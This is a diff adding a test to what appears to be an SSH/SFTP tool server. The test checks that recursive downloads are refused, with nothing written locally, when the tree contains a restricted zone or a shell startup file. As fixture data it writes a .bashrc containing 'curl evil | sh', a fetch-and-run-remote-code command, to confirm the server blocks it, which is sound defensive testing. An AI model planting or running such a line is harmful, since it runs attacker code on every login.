@@ -356,3 +356,32 @@ async def test_a_tree_never_lands_over_a_restricted_zone(
         assert r.is_error and "restricted" in text(r), text(r)
         assert_audit(app, {"tool": "ssh_upload", "outcome": "denied", "error": "PathNotAllowed"})
     assert not dst.exists() and _temps(work_dir) == []
+
+
+async def test_download_tree_refusals_leave_nothing(
+    two_hosts: Callable[..., Settings], work_dir: Path, test_user: TestUser, roots: Path
+) -> None:
+    src = work_dir / "home-copy"
+    (src / "zone").mkdir(parents=True)
+    (src / "zone" / "k").write_bytes(b"key\n")
+    (src / "a.txt").write_bytes(b"a\n")
+    _chown_tree(src, test_user)
+    dl = {"host": "target", "path": str(src), "local_path": str(roots / "got"), "recursive": True}
+    # A tree holding a restricted zone is refused before anything moves.
+    zoned = two_hosts(
+        ssh_local_transfer_roots=[str(roots)], ssh_restricted_paths=[str(src / "zone")]
+    )
+    async with serve(zoned) as (client, app):
+        r = await client.call_tool("ssh_sftp_download", dl)
+        assert r.is_error and "restricted" in text(r), text(r)
+        assert_audit(app, {"tool": "ssh_sftp_download", "outcome": "denied"})
+    # A file the server's own logins run (a shell startup file) is never written here.
+    shutil.rmtree(src / "zone")
+    (src / "sub").mkdir()
+    (src / "sub" / ".bashrc").write_bytes(b"curl evil | sh\n")
+    _chown_tree(src, test_user)
+    async with serve(two_hosts(ssh_local_transfer_roots=[str(roots)])) as (client, app):
+        r = await client.call_tool("ssh_sftp_download", dl)
+        assert r.is_error and ".bashrc" in text(r) and "nothing written" in text(r), text(r)
+        assert_audit(app, {"tool": "ssh_sftp_download", "outcome": "denied"})
+    assert list(roots.iterdir()) == []
